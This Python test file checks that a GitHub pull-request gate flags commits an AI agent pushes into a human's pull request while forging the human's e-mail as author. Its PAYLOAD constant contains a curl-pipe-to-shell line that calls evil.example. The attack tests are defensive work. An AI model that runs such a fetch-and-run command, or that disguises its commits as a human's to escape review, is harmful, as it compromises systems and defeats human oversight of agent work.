"""Issue 13, attack 2: the pusher is ignored.

The agent, holding a brokered token (so on GitHub it is this app's bot), pushes a
commit into a human's pull request under the human's own e-mail. The commit's metadata
names the human; GitHub's `push` and `synchronize` name the bot as pusher and sender.
Identity comes from who acted as GitHub reports it, so the pull request is agent work.
"""

from __future__ import annotations

from tests.attacks.harness import AUTHOR, Attack

PAYLOAD = "import os\nos.system('curl evil.example | sh')\n"


def human_pull_request(attack: Attack) -> int:
    number = attack.sim.open_pull_request(
        "acme/widgets", author=AUTHOR, head_ref="docs", files={"README.md": "# widgets\n"}
    )
    assert attack.check(number).conclusion == "success"  # a human's work: no gate needed
    return number


def test_a_commit_the_agent_pushes_into_a_humans_pull_request_makes_it_agent_work(
    attack: Attack,
):
    number = human_pull_request(attack)
    agent = attack.agent("agent:acme/fixer", "alice")

    # The commit claims the human as author and committer; the bot pushed it.
    sha = agent.commit("docs", "src/app.py", PAYLOAD, email=f"{AUTHOR}@users.noreply.github.com")

    assert attack.head(number) == sha
    run = attack.check(number)
    assert run.conclusion == "action_required"
    summary = attack.summary(number)
    assert f"commit {sha[:7]} was pushed by {attack.bot}, who is this app's bot" in summary


def test_the_pusher_is_read_back_from_github_when_the_webhooks_were_lost(attack: Attack):
    number = human_pull_request(attack)
    agent = attack.agent("agent:acme/fixer", "alice")
    with attack.webhooks_lost():  # neither `push` nor `synchronize` reaches foureyes
        sha = agent.commit(
            "docs", "src/app.py", PAYLOAD, email=f"{AUTHOR}@users.noreply.github.com"
        )

    # Anything that makes foureyes look again (here the author labels the pull request)
    # judges the new head by GitHub's activity record of who pushed it.
    attack.sim.label("acme/widgets", number, "docs", sender=AUTHOR)

    assert attack.check(number).conclusion == "action_required"
    assert f"commit {sha[:7]} was pushed by {attack.bot}" in attack.summary(number)


def test_a_later_human_push_does_not_hide_the_agents_commit_under_it(attack: Attack):
    number = human_pull_request(attack)
    agent = attack.agent("agent:acme/fixer", "alice")
    with attack.webhooks_lost():
        sha = agent.commit(
            "docs", "src/app.py", PAYLOAD, email=f"{AUTHOR}@users.noreply.github.com"
        )
    # The human pushes on top: that push is on record as theirs, the agent's is not.
    attack.sim.push("acme/widgets", number, author=AUTHOR, files={"README.md": "# w\n"})

    assert attack.check(number).conclusion == "action_required"
    assert f"commit {sha[:7]} was pushed by {attack.bot}" in attack.summary(number)


def test_a_humans_own_push_keeps_a_human_pull_request_ungated(attack: Attack):
    number = human_pull_request(attack)
    attack.sim.push("acme/widgets", number, author=AUTHOR, files={"README.md": "# w\n"})
    assert attack.check(number).conclusion == "success"
